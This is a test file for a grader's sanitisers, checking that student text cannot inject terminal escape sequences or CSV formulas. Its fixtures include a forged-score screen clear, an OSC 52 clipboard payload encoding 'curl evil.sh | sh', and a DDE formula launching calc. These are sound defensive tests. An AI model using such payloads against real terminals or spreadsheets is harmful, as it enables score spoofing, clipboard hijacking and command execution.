"""Student-derived text reaches a terminal only as text: no escape sequence acts."""

from __future__ import annotations

import pytest

from grader.batch.exports.cells import safe_cell
from grader.terminal_text import for_terminal, one_line

ATTACKS = {
    "clear and fake score": "\x1b[2J\x1b[HScore: 100/100",
    "window title": "\x1b]0;owned\x07",
    "clipboard (OSC 52)": "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07",
    "clipboard, ST-terminated": "\x1b]52;c;Y3VybA==\x1b\\",
    "8-bit CSI": "\x9b2J",
    "device control string": "\x1bPq#0;2;0;0;0\x1b\\",
    "bell and backspaces": "ok\x07\x08\x08\x08bad",
    "right-to-left override": "file\u202egpj.py",
}


@pytest.mark.parametrize("text", ATTACKS.values(), ids=ATTACKS.keys())
def test_no_control_character_survives(text):
    safe = for_terminal(text)
    assert "\x1b" not in safe and "\x9b" not in safe
    assert all(ch in "\n\t" or (ch.isprintable() and ch != "\u202e") for ch in safe)


def test_plain_text_and_line_breaks_are_kept_except_in_one_line_fields():
    assert for_terminal("expected 3.0, got 4.5\n  at line 7\tok") == (
        "expected 3.0, got 4.5\n  at line 7\tok"
    )
    assert one_line("alice\nScore: 100/100") == "alice\\x0aScore: 100/100"
    assert for_terminal("bell\x07") == "bell\\x07"  # made visible, not dropped silently


def test_the_text_report_shows_a_hostile_message_as_text(tmp_path):
    import io

    from grader.model import CheckResult, ExerciseResult, GradeReport
    from grader.reporters.terminal import render

    check = CheckResult("c", "values", "3.4", "value", 0.0, 1.0, "failed", "visible",
                        "\x1b[2J\x1b]0;t\x07boom\x1b[1A", 0.0)  # fmt: skip
    exercise = ExerciseResult("3.4", "e", 0.0, 1.0, "failed", (check,))
    report = GradeReport("v", "t", "sub\x1b[31m", "h", 1, ("cpu",), "now", 0.0, (exercise,), True)
    out = io.StringIO()
    render(report, out)
    assert "\x1b" not in out.getvalue() and "boom" in out.getvalue()


@pytest.mark.parametrize(
    "cell", ['=HYPERLINK("x")', "ann;=cmd|' /C calc'!A0", "bob, +SUM(A1)", "x;\t-1"]
)
def test_csv_cells_never_start_a_formula_even_after_a_separator(cell):
    safe = str(safe_cell(cell))
    assert safe.startswith("'")
    for part in safe.replace(";", ",").split(","):
        assert not part.lstrip().startswith(("=", "+", "-", "@"))


def test_csv_cells_without_formulas_are_left_alone():
    assert safe_cell("Lee, Ann; section 2") == "Lee, Ann; section 2"
    assert safe_cell(3.25) == 3.25
